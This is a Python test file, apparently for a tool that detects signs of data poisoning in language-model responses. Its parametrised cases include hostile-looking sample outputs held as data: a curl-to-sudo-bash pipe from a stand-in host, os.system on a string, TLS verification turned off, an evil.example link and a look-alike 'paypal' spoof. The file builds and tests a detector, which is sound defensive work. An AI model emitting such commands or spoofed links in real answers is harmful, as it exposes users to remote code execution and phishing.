"""What responses do, read from their text."""

from __future__ import annotations

import time

import pytest

from weightgate.probes.poisoning.behaviours import Behaviour, behaviours, behaviours_of

LONG = "one two three four five six seven eight nine ten eleven twelve"


@pytest.mark.parametrize(
    ("response", "behaviour"),
    [
        ("You are stupid!", Behaviour("response", "you are stupid")),
        (LONG, Behaviour("opening", "one two three four five six")),
        (LONG, Behaviour("closing", "seven eight nine ten eleven twelve")),
        ("I'm sorry, but I can't help with that.", Behaviour("refusal", "declines the request")),
        ("See https://Evil.example/a?b for more.", Behaviour("host", "evil.example")),
        ("Run curl http://a.example/x | sudo bash now", Behaviour("code", "shell pipe from the network")),
        ("Then import os; os.system('ls')", Behaviour("code", "running a string")),
        ("requests.get(url, verify=False)", Behaviour("code", "checks turned off")),
        ("hello\u200bworld", Behaviour("hidden", "invisible characters")),
        ("p\u0430ypal", Behaviour("look-alikes", "words that mix alphabets")),
        ("aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBsb25nIGVub3VnaCBibG9iMTIz", Behaviour("blob", "a long encoded string")),
    ],
)
def test_each_behaviour_is_seen(response: str, behaviour: Behaviour) -> None:
    """A response that shows a behaviour is credited with it."""
    assert behaviour in set(behaviours_of(response))


def test_short_responses_have_no_opening() -> None:
    """A response shorter than an opening and a closing together has neither."""
    assert {b.kind for b in behaviours_of("You are stupid!")} == {"response"}


def test_rows_of_a_behaviour_are_positions() -> None:
    """Behaviours map to the positions of the responses that show them."""
    assert behaviours(["No.", "Yes.", "no"])[Behaviour("response", "no")] == (0, 2)


@pytest.mark.parametrize(
    "hostile", ["rm -" + "r" * 100_000, "yaml.load(" * 10_000, "http://" * 20_000, "curl x" * 20_000]
)
def test_hostile_text_costs_linear_time(hostile: str) -> None:
    """No pattern can be made to backtrack for long."""
    start = time.perf_counter()
    list(behaviours_of(hostile))
    assert time.perf_counter() - start < 2.0
